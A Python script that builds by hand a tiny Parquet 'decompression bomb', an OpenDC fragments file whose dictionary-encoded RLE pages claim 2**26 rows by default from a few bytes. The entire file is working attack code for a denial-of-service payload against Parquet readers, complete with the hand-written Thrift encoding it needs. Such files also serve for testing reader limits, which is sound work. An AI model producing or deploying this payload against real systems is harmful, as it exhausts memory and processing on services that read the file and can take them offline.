#!/usr/bin/env python3
"""pq_bomb.py OUT.parquet [VALUES] -- write a tiny Parquet "decompression bomb":
an OpenDC fragments file (id INT32, duration INT64, cpu_usage DOUBLE, all
REQUIRED) whose single row group claims VALUES rows (default 2**26).  Each
column chunk is a one-entry PLAIN dictionary page and one RLE_DICTIONARY
data page holding a single RLE run of VALUES zeros: a few bytes that decode
to VALUES values.  Thrift compact protocol written by hand (stdlib only)."""
import struct
import sys


def varint(n):
    out = bytearray()
    while True:
        b = n & 0x7F
        n >>= 7
        if n:
            out.append(b | 0x80)
        else:
            out.append(b)
            return bytes(out)


def zz(n):
    return varint((n << 1) ^ (n >> 63))


class Struct:
    """A compact-protocol struct writer: fields in increasing id order."""

    def __init__(self):
        self.buf = bytearray()
        self.last = 0

    def field(self, fid, ftype):
        delta = fid - self.last
        if 0 < delta <= 15:
            self.buf.append(delta << 4 | ftype)
        else:
            self.buf.append(ftype)
            self.buf += zz(fid)
        self.last = fid

    def i32(self, fid, v):
        self.field(fid, 5)
        self.buf += zz(v)
        return self

    def i64(self, fid, v):
        self.field(fid, 6)
        self.buf += zz(v)
        return self

    def binary(self, fid, b):
        self.field(fid, 8)
        self.buf += varint(len(b)) + b
        return self

    def struct(self, fid, s):
        self.field(fid, 12)
        self.buf += s.end()
        return self

    def list(self, fid, etype, items):
        self.field(fid, 9)
        n = len(items)
        self.buf.append((n << 4 | etype) if n < 15 else (0xF0 | etype))
        if n >= 15:
            self.buf += varint(n)
        for it in items:
            self.buf += it
        return self

    def end(self):
        return bytes(self.buf) + b"\x00"


def main():
    out = sys.argv[1]
    nv = int(sys.argv[2]) if len(sys.argv) > 2 else 1 << 26
    cols = [("id", 1, 4), ("duration", 2, 8), ("cpu_usage", 5, 8)]  # name, type, width
    body = bytearray(b"PAR1")
    chunks = []
    for name, ptype, width in cols:
        dict_off = len(body)
        entry = b"\x00" * width
        dh = Struct().i32(1, 2).i32(2, len(entry)).i32(3, len(entry)).struct(
            7, Struct().i32(1, 1).i32(2, 0))  # DICTIONARY_PAGE, 1 value, PLAIN
        body += dh.end() + entry
        data_off = len(body)
        # bit width 0, then one RLE run: header = count << 1, no value bytes
        data = b"\x00" + varint(nv << 1)
        ph = Struct().i32(1, 0).i32(2, len(data)).i32(3, len(data)).struct(
            5, Struct().i32(1, nv).i32(2, 8).i32(3, 3).i32(4, 3))  # DATA_PAGE v1, RLE_DICTIONARY
        body += ph.end() + data
        size = len(body) - dict_off
        meta = (Struct().i32(1, ptype).list(2, 5, [zz(0), zz(8)])
                .list(3, 8, [varint(len(name)) + name.encode()]).i32(4, 0)
                .i64(5, nv).i64(6, size).i64(7, size).i64(9, data_off).i64(11, dict_off))
        chunks.append(Struct().i64(2, dict_off).struct(3, meta).end())
    schema = [Struct().binary(4, b"schema").i32(5, len(cols)).end()]
    for name, ptype, _ in cols:
        schema.append(Struct().i32(1, ptype).i32(3, 0).binary(4, name.encode()).end())
    rg = Struct().list(1, 12, chunks).i64(2, nv * 20).i64(3, nv).end()
    fm = Struct().i32(1, 1).list(2, 12, schema).i64(3, nv).list(4, 12, [rg]).end()
    body += fm + struct.pack("<I", len(fm)) + b"PAR1"
    with open(out, "wb") as f:
        f.write(body)


if __name__ == "__main__":
    main()
